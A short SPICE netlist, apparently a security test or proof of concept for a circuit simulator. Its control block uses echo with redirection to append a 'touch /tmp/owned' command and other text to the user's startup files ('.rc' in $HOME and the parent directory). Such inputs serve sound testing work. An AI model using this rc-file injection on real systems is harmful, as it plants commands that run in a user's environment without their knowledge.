echoes behind the start-up files of the user
V1 in 0 dc 1 ac 1 pulse(0 1 0 1n 1n 10n 20n)
R1 in 0 1k
.control
op
echo touch /tmp/owned >> ../.rc
echo x >> $HOME/.rc
echo x >> ~/.rc
echo x > ../.rc2
.endc
.end
